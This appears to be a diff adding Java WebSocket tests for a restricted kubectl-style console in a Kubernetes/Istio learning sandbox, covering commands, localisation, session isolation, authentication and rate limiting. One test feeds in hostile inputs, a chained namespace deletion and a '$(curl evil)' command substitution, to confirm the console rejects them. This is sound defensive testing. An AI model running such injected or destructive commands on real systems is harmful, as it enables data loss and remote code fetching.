@@ -1,0 +1,305 @@
+package io.meshdojo.sandbox.console;
+
+import static io.restassured.RestAssured.given;
+import static org.assertj.core.api.Assertions.assertThat;
+import static org.assertj.core.api.Assertions.assertThatThrownBy;
+
+import com.fasterxml.jackson.databind.JsonNode;
+import com.fasterxml.jackson.databind.ObjectMapper;
+import io.meshdojo.sandbox.Kubectl;
+import io.quarkus.test.common.http.TestHTTPResource;
+import io.quarkus.test.junit.QuarkusTest;
+import java.net.URI;
+import java.net.URL;
+import java.net.http.HttpClient;
+import java.net.http.WebSocket;
+import java.net.http.WebSocketHandshakeException;
+import java.nio.charset.StandardCharsets;
+import java.nio.file.Files;
+import java.nio.file.Path;
+import java.util.Base64;
+import java.util.List;
+import java.util.Map;
+import java.util.concurrent.BlockingQueue;
+import java.util.concurrent.CompletableFuture;
+import java.util.concurrent.CompletionStage;
+import java.util.concurrent.ExecutionException;
+import java.util.concurrent.LinkedBlockingQueue;
+import java.util.concurrent.TimeUnit;
+import org.junit.jupiter.api.Test;
+
+/** The terminal's WebSocket on an embedded sandbox, driven like the lab page drives it. */
+@QuarkusTest
+class ConsoleSocketTest {
+
+  private static final ObjectMapper JSON = new ObjectMapper();
+
+  /** Generous: a bound on waiting for the server, not a measure of its speed. */
+  private static final long WAIT_SECONDS = 30;
+
+  @TestHTTPResource("/")
+  URL root;
+
+  /** What a command printed and the code it ended with. */
+  record Ran(String text, int code) {}
+
+  /** A WebSocket client that queues every frame and the close it receives. */
+  static final class Terminal implements WebSocket.Listener {
+    final BlockingQueue<JsonNode> frames = new LinkedBlockingQueue<>();
+    final CompletableFuture<String> closed = new CompletableFuture<>();
+    private final StringBuilder partial = new StringBuilder();
+    WebSocket socket;
+
+    @Override
+    public CompletionStage<?> onText(WebSocket ws, CharSequence data, boolean last) {
+      partial.append(data);
+      if (last) {
+        try {
+          frames.add(JSON.readTree(partial.toString()));
+        } catch (Exception e) {
+          throw new IllegalStateException(e);
+        }
+        partial.setLength(0);
+      }
+      ws.request(1);
+      return null;
+    }
+
+    @Override
+    public CompletionStage<?> onClose(WebSocket ws, int status, String reason) {
+      closed.complete(status + " " + reason);
+      return null;
+    }
+
+    JsonNode next() throws InterruptedException {
+      JsonNode frame = frames.poll(WAIT_SECONDS, TimeUnit.SECONDS);
+      assertThat(frame).as("a frame from the console").isNotNull();
+      return frame;
+    }
+
+    Ran run(String line, String stdin) throws Exception {
+      Map<String, String> message =
+          stdin == null
+              ? Map.of("type", "command", "line", line)
+              : Map.of("type", "command", "line", line, "stdin", stdin);
+      socket.sendText(JSON.writeValueAsString(message), true).get(WAIT_SECONDS, TimeUnit.SECONDS);
+      StringBuilder text = new StringBuilder();
+      while (true) {
+        JsonNode frame = next();
+        switch (frame.path("type").asText()) {
+          case "output" -> text.append(frame.path("text").asText());
+          case "clear" -> text.append("<clear>");
+          case "exit" -> {
+            return new Ran(text.toString(), frame.path("code").asInt());
+          }
+          default -> throw new AssertionError("unexpected frame " + frame);
+        }
+      }
+    }
+  }
+
+  private Terminal connect(String user, String session, String lang) throws Exception {
+    Terminal terminal = new Terminal();
+    String auth =
+        Base64.getEncoder()
+            .encodeToString((user + ":" + Kubectl.PASSWORD).getBytes(StandardCharsets.UTF_8));
+    URI uri =
+        URI.create(
+            root.toString().replaceFirst("^http", "ws")
+                + "api/sessions/"
+                + session
+                + "/console?lang="
+                + lang);
+    terminal.socket =
+        HttpClient.newHttpClient()
+            .newWebSocketBuilder()
+            .header("Authorization", "Basic " + auth)
+            .buildAsync(uri, terminal)
+            .get(WAIT_SECONDS, TimeUnit.SECONDS);
+    return terminal;
+  }
+
+  private static String startSession(String user) {
+    return given()
+        .auth()
+        .preemptive()
+        .basic(user, Kubectl.PASSWORD)
+        .post("/api/labs/request-routing/sessions")
+        .then()
+        .statusCode(201)
+        .extract()
+        .path("id");
+  }
+
+  @Test
+  void getDescribeApplyDeleteAndExplainLikeKubectl() throws Exception {
+    String user = Kubectl.newLearner();
+    String session = startSession(user);
+    Terminal t = connect(user, session, "en");
+    JsonNode hello = t.next();
+    assertThat(hello.path("type").asText()).isEqualTo("hello");
+    assertThat(hello.path("mode").asText()).isEqualTo("restricted");
+    assertThat(hello.path("text").asText()).contains("Type help");
+
+    Ran pods = t.run("kubectl get pods -n bookinfo", null);
+    assertThat(pods.code()).isZero();
+    assertThat(pods.text())
+        .startsWith("NAME")
+        .contains("READY   STATUS")
+        .contains("productpage-v1-");
+
+    Ran none = t.run("k get virtualservices -A", null);
+    assertThat(none).isEqualTo(new Ran("No resources found\n", 0));
+    assertThat(t.run("get vs", null))
+        .isEqualTo(new Ran("No resources found in bookinfo namespace.\n", 0));
+
+    String solution =
+        Files.readString(Path.of("labs/request-routing/solution/reviews-routing.yaml"));
+    Ran applied = t.run("kubectl apply -f -", solution);
+    assertThat(applied)
+        .isEqualTo(
+            new Ran(
+                "destinationrule.networking.istio.io/reviews created\n"
+                    + "virtualservice.networking.istio.io/reviews created\n",
+                0));
+
+    Ran all = t.run("kubectl get virtualservices -A", null);
+    assertThat(all.code()).isZero();
+    List<String> lines = all.text().lines().toList();
+    assertThat(lines).hasSize(2);
+    assertThat(lines.get(0)).matches("NAMESPACE +NAME +GATEWAYS +HOSTS +AGE");
+    assertThat(lines.get(1)).matches("bookinfo +reviews +\\[\"reviews\"\\] +\\d+s");
+
+    Ran described = t.run("kubectl describe vs reviews -n bookinfo", null);
+    assertThat(described.code()).isZero();
+    assertThat(described.text())
+        .startsWith("Name:         reviews\nNamespace:    bookinfo\n")
+        .contains("Kind:         VirtualService\n")
+        .contains("Spec:\n  Hosts:\n    reviews\n")
+        .endsWith("Events:       <none>\n");
+
+    Ran yaml = t.run("get dr/reviews -n bookinfo -o yaml", null);
+    assertThat(yaml.text())
+        .startsWith("apiVersion: networking.istio.io/v1\nkind: DestinationRule\n");
+    assertThat(t.run("get dr,vs -n bookinfo -o name", null).text())
+        .isEqualTo(
+            "destinationrule.networking.istio.io/reviews\n"
+                + "virtualservice.networking.istio.io/reviews\n");
+
+    Ran deleted = t.run("kubectl delete vs reviews -n bookinfo", null);
+    assertThat(deleted)
+        .isEqualTo(new Ran("virtualservice.networking.istio.io \"reviews\" deleted\n", 0));
+    assertThat(t.run("kubectl get vs reviews -n bookinfo", null))
+        .isEqualTo(
+            new Ran(
+                "Error from server (NotFound): virtualservices.networking.istio.io \"reviews\" not"
+                    + " found\n",
+                1));
+    assertThat(t.run("kubectl delete -f -", solution))
+        .isEqualTo(
+            new Ran(
+                "destinationrule.networking.istio.io/reviews deleted\n"
+                    + "error: virtualservices.networking.istio.io \"reviews\" not found (line 22)\n",
+                1));
+
+    assertThat(t.run("kubectl explain vs.spec.hosts", null).text())
+        .contains("KIND:       VirtualService\n")
+        .contains("FIELD: hosts <[]string>\n");
+    assertThat(t.run("kubectl get frobs", null))
+        .isEqualTo(new Ran("error: the server doesn't have a resource type \"frobs\"\n", 1));
+    assertThat(t.run("kubectl get pods --watch", null))
+        .isEqualTo(
+            new Ran(
+                "error: unknown flag: --watch\nType help for the commands this console knows.\n",
+                1));
+    assertThat(t.run("clear", null)).isEqualTo(new Ran("<clear>", 0));
+  }
+
+  @Test
+  void shellFeaturesAreRefusedAndNothingRuns() throws Exception {
+    String user = Kubectl.newLearner();
+    String session = startSession(user);
+    Terminal t = connect(user, session, "en");
+    t.next();
+    Ran piped = t.run("kubectl get pods -n bookinfo | grep reviews", null);
+    assertThat(piped)
+        .isEqualTo(
+            new Ran(
+                "This console is not a shell: | is not supported. Run one kubectl command at a"
+                    + " time (type help).\n",
+                1));
+    Ran chained = t.run("kubectl delete ns bookinfo; kubectl get ns", null);
+    assertThat(chained.text()).startsWith("This console is not a shell: ; is not supported.");
+    assertThat(chained.code()).isEqualTo(1);
+    // The namespace the chained line named is still there.
+    assertThat(t.run("kubectl get ns bookinfo -o name", null))
+        .isEqualTo(new Ran("namespace/bookinfo\n", 0));
+    assertThat(t.run("$(curl evil)", null).text()).contains("$(");
+  }
+
+  @Test
+  void speaksChineseWhenThePageDoes() throws Exception {
+    String user = Kubectl.newLearner();
+    String session = startSession(user);
+    Terminal t = connect(user, session, "zh");
+    assertThat(t.next().path("text").asText()).startsWith("Mesh Dojo 控制台");
+    assertThat(t.run("help", null).text()).startsWith("命令（开头的 kubectl 或 k 可以省略）");
+    assertThat(t.run("kubectl exec -it reviews -- sh", null).text())
+        .startsWith("这个控制台不提供 kubectl exec");
+  }
+
+  @Test
+  void someoneElsesSessionIsClosedAsIfItDidNotExist() throws Exception {
+    String owner = Kubectl.newLearner();
+    String session = startSession(owner);
+    String other = Kubectl.newLearner();
+
+    Terminal intruder = connect(other, session, "en");
+    assertThat(intruder.closed.get(WAIT_SECONDS, TimeUnit.SECONDS))
+        .isEqualTo("4404 No session '" + session + "'");
+    assertThat(intruder.frames).isEmpty();
+
+    Terminal missing = connect(other, "no-such-session", "en");
+    assertThat(missing.closed.get(WAIT_SECONDS, TimeUnit.SECONDS))
+        .isEqualTo("4404 No session 'no-such-session'");
+  }
+
+  @Test
+  void withoutCredentialsTheUpgradeIsRefused() {
+    URI uri = URI.create(root.toString().replaceFirst("^http", "ws") + "api/sessions/x/console");
+    assertThatThrownBy(
+            () ->
+                HttpClient.newHttpClient()
+                    .newWebSocketBuilder()
+                    .buildAsync(uri, new Terminal())
+                    .get(WAIT_SECONDS, TimeUnit.SECONDS))
+        .isInstanceOf(ExecutionException.class)
+        .cause()
+        .isInstanceOfSatisfying(
+            WebSocketHandshakeException.class,
+            e -> assertThat(e.getResponse().statusCode()).isEqualTo(401));
+  }
+
+  @Test
+  void aFloodOfMessagesIsSlowedAndUnreadableOnesAreAnswered() throws Exception {
+    String user = Kubectl.newLearner();
+    String session = startSession(user);
+    Terminal t = connect(user, session, "en");
+    t.next();
+    t.socket.sendText("not json", true).get(WAIT_SECONDS, TimeUnit.SECONDS);
+    JsonNode answer = t.next();
+    assertThat(answer.path("type").asText()).isEqualTo("error");
+    assertThat(answer.path("text").asText())
+        .isEqualTo("Type help for the commands this console knows.");
+    // The test profile allows 20 messages a second; 100 sent at once cannot all be taken.
+    for (int i = 0; i < 100; i++) {
+      t.socket.sendText("{}", true).get(WAIT_SECONDS, TimeUnit.SECONDS);
+    }
+    boolean slowed = false;
+    for (int i = 0; i < 100 && !slowed; i++) {
+      slowed =
+          t.next().path("text").asText().equals("Too many messages at once: slow down a little.");
+    }
+    assertThat(slowed).isTrue();
+  }
+}
